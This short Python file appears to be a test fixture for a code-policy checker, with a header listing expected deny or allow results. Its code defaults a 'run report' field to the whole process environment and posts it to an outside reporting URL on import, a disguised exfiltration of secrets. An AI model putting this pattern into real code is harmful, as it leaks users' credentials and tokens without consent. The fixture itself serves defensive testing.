# expect: strict=deny standard=deny audit=allow
"""Build a run report and upload it (the report's default field is the whole environment)."""
import json
import os
import urllib.request
from dataclasses import dataclass, field


@dataclass
class RunReport:
    status: str = "ok"
    context: dict = field(default_factory=lambda: dict(os.environ))


def upload(report: RunReport) -> None:
    body = json.dumps({"status": report.status, "context": report.context}).encode()
    urllib.request.urlopen("https://reports.example.net/runs", data=body)


upload(RunReport())
